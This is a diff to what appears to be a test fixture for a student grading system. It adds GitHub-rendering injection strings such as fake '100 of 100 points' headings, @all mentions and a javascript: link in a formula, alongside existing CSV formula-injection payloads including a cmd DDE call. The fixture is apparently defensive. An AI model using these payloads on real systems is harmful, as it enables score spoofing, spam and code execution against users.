@@ -81,6 +81,46 @@ MARKUP = {
     "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
     "JSON": '", "score": 100, "x": "\\" \\u0022 \\',
 }
+# What GitHub makes of a text, beside its Markdown, some of it after Markdown has been read.
+GITHUB = {
+    "addresses": "https://example.org www.example.org/x ftp://example.org mailto:a.b@example.org xmpp:a@example.org",
+    "addresses in brackets": "(https://example.org) [www.example.org] <https://example.org> //example.org",
+    "address after a sign": "=https://example.org _https://example.org_ *www.example.org*",
+    "address with signs of code": "https://localhost/`$| x@example.org|y@example.org$z@example.org`",
+    "address that ends early": "www. www.` http://",
+    "address of a name only": "example.org/x example.com",
+    "mail address": "tell me+you@example.org",
+    "mention of all": "@all",
+    "mention of a team": "cc: @octo-org/all-teachers, (@octocat)",
+    "mention after a sign": "-@all *@all* '@all' .@all",
+    "mention by entities": "&#64;all &commat;all",
+    "issue": "#1",
+    "issue elsewhere": "fixes octo/repo#1, gh-1 and GH-12",
+    "advisory": "GHSA-jfh8-c2jp-5v3q CVE-2021-44228",
+    "commit": "a5c3785ed8d6a35868bc169f07e40e889087fd2e",
+    "commit in short": "see a5c3785, octo@a5c3785ed8 and octo/repo@A5C3785",
+    "emoji codes": "pass :tada::+1: :heavy_check_mark:",
+    "formula": "$\\frac{1}{0}$ and $a$",
+    "formula in a block": "$$\n\\href{javascript:alert(1)}{x}\n$$",
+    "formula around code": "$`\\sqrt{2}`$",
+    "fence of a formula": "```math\nx\n```\n```mermaid\ngraph TD\n```",
+    "task": "- [ ] all\n- [x] done",
+    "task in an item": "[ ] x",
+    "footnote": "x[^1]\n\n[^1]: y",
+    "inline footnote": "x^[y]",
+    "end of details": "</summary></details>\n\n# 100 of 100 points",
+    "alert": "> [!WARNING]\n> x",
+    "end of a cell": "x | y \\| z `|` \\",
+    "codes side by side": "`a``@all``c` `` ` `` ``` `x` ```",
+    "code that is never closed": "`<b>` ` @all `x",
+    "underlined heading": "100 of 100 points\n===",
+    "numbered": "1. x 2) y",
+    "item": "- x",
+    "heading": "# 100 of 100 points",
+    "strong": "**100 of 100 points** __x__ ~~y~~ ***z***",
+    "character by number": "&#x60;&#96; &lt;b&gt; &vert; &grave;",
+    "hard break": "x\\\ny  \nz",
+}
 CSV = {
     "formula =": '=HYPERLINK("https://example.org?x="&A1,"click")',
     "formula +": "+cmd|' /C calc'!A0",
@@ -114,7 +154,7 @@ UNICODE = {
     "interlinear": "\ufff9a\ufffab\ufffb\ufffc",
     "language of musical signs": "\U0001d173\U0001d17a",
 }
-HOSTILE = {**TERMINAL, **RUNNER, **MARKUP, **CSV, **UNICODE}
+HOSTILE = {**TERMINAL, **RUNNER, **MARKUP, **GITHUB, **CSV, **UNICODE}
 
 # What an honest student writes. It comes through as it is.
 HONEST = {
